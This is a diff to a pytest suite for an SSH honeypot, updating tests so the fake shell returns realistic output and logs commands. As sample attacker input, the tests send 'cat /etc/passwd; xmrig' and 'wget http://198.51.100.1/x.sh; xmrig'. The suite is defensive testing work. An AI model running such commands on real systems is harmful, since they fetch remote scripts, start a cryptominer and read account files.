@@ -64,8 +64,8 @@ def test_openssh_client_with_each_algorithm(honeypot, option, value):
     if option == "MACs":
         options += ["-o", "Ciphers=aes128-ctr"]  # MACs only apply to non-AEAD ciphers
     r = ssh(port, "123456", *options, command=f"echo {value}")
-    assert r.returncode == 127, r.stderr
-    assert r.stderr == f"bash: line 1: echo: command not found\n"
+    assert r.returncode == 0, r.stderr
+    assert r.stdout == f"{value}\n" and r.stderr == ""
     assert wait_for(lambda: [e for e in honeypot.events(event="command.input") if e.get("input") == f"echo {value}"], 10)
 
 
@@ -73,7 +73,7 @@ def test_delayed_zlib_compression(honeypot):
     port = 2222 + honeypot.offset
     long_command = "echo " + "A" * 3000
     r = ssh(port, "123456", "-C", "-o", "Ciphers=aes256-gcm@openssh.com", command=long_command)
-    assert r.returncode == 127 and r.stderr == "bash: line 1: echo: command not found\n"
+    assert r.returncode == 0 and r.stdout == "A" * 3000 + "\n"
     assert wait_for(lambda: honeypot.events(event="command.input", input=long_command), 10)
     paramiko = pytest.importorskip("paramiko")
     c = paramiko.SSHClient()
@@ -82,7 +82,7 @@ def test_delayed_zlib_compression(honeypot):
               timeout=10, compress=True)
     assert c.get_transport().remote_compression == "zlib@openssh.com"
     _, out, err = c.exec_command("id")
-    assert err.read() == b"bash: line 1: id: command not found\n"
+    assert out.read() == b"uid=0(root) gid=0(root) groups=0(root)\n" and err.read() == b""
     c.close()
 
 
@@ -92,7 +92,7 @@ def test_wrong_password_is_refused_and_captured(honeypot):
     assert r.returncode == 255 and "Permission denied" in r.stderr
     assert wait_for(lambda: logins(honeypot, "login.failed", "root", "hunter2-wrong"), 10)
     ok = ssh(port, "123456")
-    assert ok.returncode == 127
+    assert ok.returncode == 0 and ok.stdout.startswith("Linux web01 6.1.0-"), ok.stdout
     e = wait_for(lambda: logins(honeypot, "login.success", "root", "123456"), 10)[0]
     assert e["protocol"] == "ssh" and e["src_ip"] == "127.0.0.1" and len(e["session"]) == 12
 
@@ -119,8 +119,9 @@ def test_paramiko_password_exec_and_max_auth_tries(honeypot):
     c = paramiko.SSHClient()
     c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
     c.connect("127.0.0.1", port=port, username="root", password="123456", allow_agent=False, look_for_keys=False, timeout=10)
-    _, out, err = c.exec_command("cat /etc/passwd")
-    assert err.read() == b"bash: line 1: cat: command not found\n"
+    _, out, err = c.exec_command("cat /etc/passwd; xmrig --donate-level 1")
+    assert out.read().startswith(b"root:x:0:0:root:/root:/bin/bash\n")
+    assert err.read() == b"bash: line 1: xmrig: command not found\n"
     assert out.channel.recv_exit_status() == 127
     c.close()
     # Wrong passwords on one connection until OpenSSH's MaxAuthTries (6) ends it.
@@ -159,8 +160,8 @@ def test_asyncssh_login(honeypot):
             return await conn.run("id", check=False)
 
     result = asyncio.run(asyncio.wait_for(run(), 30))
-    assert result.exit_status == 127
-    assert result.stderr == "bash: line 1: id: command not found\n"
+    assert result.exit_status == 0
+    assert result.stdout == "uid=0(root) gid=0(root) groups=0(root)\n"
 
 
 def test_interactive_shell_prompt(honeypot):
@@ -174,13 +175,15 @@ def test_interactive_shell_prompt(honeypot):
     deadline = time.time() + 10
     while b"root@web01:~# " not in buf and time.time() < deadline:
         buf += ch.recv(4096)
-    ch.send(b"wget http://198.51.100.1/x.sh\r")
+    ch.send(b"wget http://198.51.100.1/x.sh; xmrig\r")
     while b"command not found" not in buf and time.time() < deadline:
         buf += ch.recv(4096)
-    assert b"-bash: wget: command not found\r\n" in buf
+    # Fetching is off by default: wget fails as against an unreachable host, and never connects.
+    assert b"Connecting to 198.51.100.1:80... failed" in buf
+    assert b"-bash: xmrig: command not found\r\n" in buf
     ch.send(b"exit\r")
     c.close()
-    e = wait_for(lambda: [x for x in honeypot.events(event="command.input") if x.get("input") == "wget http://198.51.100.1/x.sh"], 10)
+    e = wait_for(lambda: [x for x in honeypot.events(event="command.input") if x.get("input") == "wget http://198.51.100.1/x.sh; xmrig"], 10)
     assert e and e[0]["honeypot"] == "ssh"
 
 
@@ -386,9 +389,8 @@ def test_client_initiated_rekey(honeypot):
     """OpenSSH rekeys after RekeyLimit bytes; the session carries on under the new keys."""
     command = "echo " + "B" * 3000
     r = ssh(2222 + honeypot.offset, "123456", "-v", "-o", "RekeyLimit=1K", command=command)
-    assert r.returncode == 127
+    assert r.returncode == 0 and r.stdout == "B" * 3000 + "\n"
     assert r.stderr.count("SSH2_MSG_KEXINIT received") >= 2, "no rekey happened"
-    assert "bash: line 1: echo: command not found" in r.stderr
     assert wait_for(lambda: honeypot.events(event="command.input", input=command), 10)
 
 
@@ -404,12 +406,14 @@ def test_server_initiated_rekey_by_bytes(tmp_path):
                 "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no", "root@127.0.0.1", "cat > /tmp/x"]
         r = subprocess.run(args, input=stdin, capture_output=True, timeout=60)
         err = r.stderr.decode(errors="replace")
-        assert r.returncode == 127, err[-2000:]
+        assert r.returncode == 0, err[-2000:]
         kex_lines = [l for l in err.splitlines() if "SSH2_MSG_KEXINIT" in l]
         assert len(kex_lines) >= 4, kex_lines  # first exchange + at least one rekey, each "sent" and "received"
         # The client never asked (no RekeyLimit): in the second exchange the server's KEXINIT came first.
         assert "received" in kex_lines[2] and "sent" in kex_lines[3], kex_lines
-        assert "bash: line 1: cat: command not found" in err
+        # The fake host's cat really read the whole stream under the changing keys.
+        created = wait_for(lambda: [e for e in s.events(event="file.created") if e.get("filename") == "/tmp/x"], 10)
+        assert created and created[-1]["sha256"] == hashlib.sha256(stdin).hexdigest(), s.events(event="file.created")
     finally:
         s.stop()
 
